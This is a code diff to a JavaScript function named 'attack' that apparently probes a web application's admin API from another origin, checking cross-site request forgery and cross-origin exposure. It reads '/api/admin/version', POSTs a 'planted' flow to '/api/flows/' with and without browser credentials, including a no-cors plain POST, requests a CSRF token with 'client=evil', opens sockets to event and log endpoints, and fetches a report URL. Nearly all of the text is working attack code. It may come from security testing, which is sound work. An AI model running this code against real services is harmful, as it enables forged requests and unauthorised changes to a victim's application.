@@ -218,11 +218,14 @@ const drawn = path => new Promise((resolve, reject) => {
 })
 async function attack(where, report) {
   window.target = where
-  const post = {method: 'POST', body: '{"name": "planted"}', credentials: 'include'}
-  await attempt('read', () => text('/api/admin/version', {credentials: 'include'}))
+  const post = {method: 'POST', body: '{"name": "planted"}', headers: {'Content-Type': 'application/json'}}
+  for (const credentials of ['omit', 'include']) {
+    await attempt(`read, ${credentials}`, () => text('/api/admin/version', {credentials}))
+    await attempt(`json, ${credentials}`, () => text('/api/flows/', {...post, credentials}))
+  }
   await attempt('settings', () => text('/ui-settings'))
-  await attempt('json', () => text('/api/flows/', {...post, headers: {'Content-Type': 'application/json'}}))
-  await attempt('plain', () => fetch(target + '/api/flows/', {...post, mode: 'no-cors'}).then(() => 'sent'))
+  const plain = {method: 'POST', body: post.body, mode: 'no-cors', credentials: 'include'}
+  await attempt('plain', () => fetch(target + '/api/flows/', plain).then(() => 'sent'))
   await attempt('token', () => text('/api/csrf-token?client=evil', {credentials: 'include'}))
   for (const path of ['/api/events/out', '/api/logs/out', '/api/events/in']) await attempt(path, () => socket(path))
   await attempt('report', () => fetch(report, {credentials: 'include'}).then(reply => reply.text()))
